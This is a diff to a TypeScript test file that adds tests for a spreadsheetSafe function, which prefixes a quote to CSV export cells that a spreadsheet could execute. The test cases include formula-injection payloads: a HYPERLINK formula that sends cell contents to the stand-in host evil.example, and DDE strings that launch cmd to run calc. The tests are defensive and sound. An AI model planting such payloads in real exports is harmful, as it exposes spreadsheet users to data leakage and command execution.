@@ -4,6 +4,7 @@ import {
   EXPORT_CSV_COLUMNS,
   EXPORT_INPUT_FIELDS,
   jsonLineOf,
+  spreadsheetSafe,
   type ExportedJob,
 } from './export-rows';
 
@@ -98,6 +99,51 @@ describe('the CSV export row', () => {
       error: 'no eligible provider',
       credits_spent: '0',
       completed_at: '',
+    });
+  });
+});
+
+describe('a CSV cell a spreadsheet could run', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ['\t=1+1'],
+    ['\r=1+1'],
+    ['\uFF1D1+1'],
+    ['\uFF0BHYPERLINK("x")'],
+  ])('is written as text with a leading quote: %j', (value) => {
+    expect(spreadsheetSafe(value)).toBe(`'${value}`);
+  });
+
+  it.each([['+442079460000'], ['+1 (415) 555-0100'], ['-1.5'], ['Ada'], [''], ['ada@example.com'], ['a=b']])(
+    'leaves a phone number, a figure or plain text as it is: %j',
+    (value) => {
+      expect(spreadsheetSafe(value)).toBe(value);
+    },
+  );
+
+  it('applies to every value of the row: input, result and error', () => {
+    const row = byColumn(
+      csvRowOf(
+        job({
+          input: { first_name: '=1+2', last_name: 'Lovelace', domain: 'example.com' },
+          result: {
+            data: { business_email: 'ada@example.com', title: '@SUM(A1)', mobile_phone: '+447700900123' },
+            sources: {},
+          },
+          error: '+HYPERLINK("x")',
+        }),
+      ),
+    );
+    expect(row).toMatchObject({
+      input_first_name: "'=1+2",
+      input_last_name: 'Lovelace',
+      title: "'@SUM(A1)",
+      mobile_phone: '+447700900123',
+      business_email: 'ada@example.com',
+      error: '\'+HYPERLINK("x")',
     });
   });
 });
